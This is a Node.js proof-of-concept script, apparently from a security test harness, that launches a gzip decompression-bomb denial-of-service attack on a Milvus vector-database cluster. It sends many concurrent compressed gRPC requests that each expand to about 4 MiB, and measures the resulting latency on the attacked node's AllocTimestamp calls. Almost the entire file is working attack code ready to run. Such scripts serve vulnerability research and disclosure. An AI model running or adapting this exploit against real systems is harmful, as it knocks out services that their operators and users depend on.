// A ~4 KB gzip-compressed request that decodes to 4 MiB of packed uint64 (4.19M values): CPU cost per request.
// usage: node zipbomb-cpu.mjs NODE_ID COUNT [port=client|milvus] [mode=slow|fast]
import { grpc, P, cluster, health } from './lib.mjs';
const [id, count] = process.argv.slice(2, 4).map(Number);
const port = process.argv[4] ?? 'client', mode = process.argv[5] ?? 'slow';
const node = cluster.nodes.find((n) => n.id === id);
function varint(n) { const o = []; while (n > 127) { o.push((n & 127) | 128); n >>>= 7; } o.push(n); return o; }
const N = 4 * 1024 * 1024 - 64;
const body = Buffer.alloc(N, 0x01);
const msg = Buffer.concat([Buffer.from(mode === 'slow' ? [0x18, 0x01, 0x1a, ...varint(N)] : [0x1a, ...varint(N)]), body]);
const path = port === 'client' ? '/rootcoord.RootCoord/UpdateChannelTimeTick' : port === 'mrc' ? '/milvus.proto.rootcoord.RootCoord/UpdateChannelTimeTick' : '/milvus.proto.milvus.MilvusService/BatchDescribeCollection';
const addr = port === 'milvus' ? node.milvus : node.client;
const zc = new grpc.Client(addr, grpc.credentials.createInsecure(), { 'grpc.default_compression_algorithm': 2, 'grpc.max_send_message_length': 64 << 20 });
const probe = new grpc.Client(cluster.nodes.find((n) => n.id !== id).client, grpc.credentials.createInsecure());
const probeLocal = new grpc.Client(node.client, grpc.credentials.createInsecure());
const tsReq = P.encodeMessage('rootcoord.AllocTimestampRequest', { count: 1 });
const id_ = (b) => b;
const one = (c, p, b, dl) => new Promise((res) => { const t0 = Date.now(); c.makeUnaryRequest(p, id_, id_, b, new grpc.Metadata(), { deadline: Date.now() + dl }, (e, r) => res({ ms: Date.now() - t0, err: e ? `${grpc.status[e.code]} ${e.details.slice(0, 100)}` : null, r })); });
console.log('before', JSON.stringify(await health()));
const t0 = Date.now();
const attacks = Array.from({ length: count }, () => one(zc, path, msg, 120000));
const probes = [];
let stop = false;
(async () => { while (!stop) { const r = await one(probeLocal, '/rootcoord.RootCoord/AllocTimestamp', tsReq, 60000); probes.push(r.ms); await new Promise((x) => setTimeout(x, 200)); } })();
const results = await Promise.all(attacks);
stop = true;
console.log('attack wall ms', Date.now() - t0);
for (const r of results.slice(0, 3)) console.log(' attack answer', r.ms, r.err ?? JSON.stringify(port === 'milvus' ? P.milvusCodec.decode('milvus.proto.milvus.BatchDescribeCollectionResponse', r.r).status : P.decodeMessage('rootcoord.Status', r.r)));
console.log('AllocTimestamp on the attacked node, latencies ms (max):', Math.max(...probes), probes.slice(0, 30).join(','));
await new Promise((x) => setTimeout(x, 1000));
console.log('after', JSON.stringify(await health()));
process.exit(0);
